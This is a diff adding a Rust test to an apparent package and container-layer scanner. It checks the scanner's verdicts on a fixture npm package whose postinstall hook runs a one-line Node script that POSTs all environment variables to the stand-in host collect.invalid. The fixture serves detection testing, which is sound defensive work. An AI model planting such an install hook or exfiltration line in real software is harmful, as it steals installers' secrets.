@@ -253,3 +253,23 @@ fn an_account_without_a_distribution_says_so_by_its_package_url() {
     let layer = tar::archive(&[tar::file("var/lib/dpkg/status", &status(&[("a", "1", "a")]))]);
     assert_eq!(purls(&look_as_layer(&layer), false), ["pkg:deb/a@1?arch=amd64"]);
 }
+
+#[test]
+fn what_code_does_is_judged_outside_of_layers_only() {
+    let steals = b"const h=require('https');const r=h.request({host:'collect.invalid',method:'POST'});r.write(JSON.stringify(process.env));r.end();\n";
+    let manifest = br#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node steal.js"}}"#;
+    let layer = tar::archive(&[
+        tar::file("srv/package.json", manifest),
+        tar::file("srv/steal.js", steals),
+        tar::file("etc/os-release", DEBIAN),
+    ]);
+    assert_eq!(look_as_layer(&layer).verdict, Verdict::Clean);
+    // A package that pretends to be an archive of images stays one.
+    let package = tar::archive(&[
+        tar::file("package/oci-layout", b"{}"),
+        tar::file("package/blobs/sha256/aa", b"x"),
+        tar::file("package/package.json", manifest),
+        tar::file("package/steal.js", steals),
+    ]);
+    assert_eq!(look("a-1.0.0", &package).verdict, Verdict::Malicious);
+}
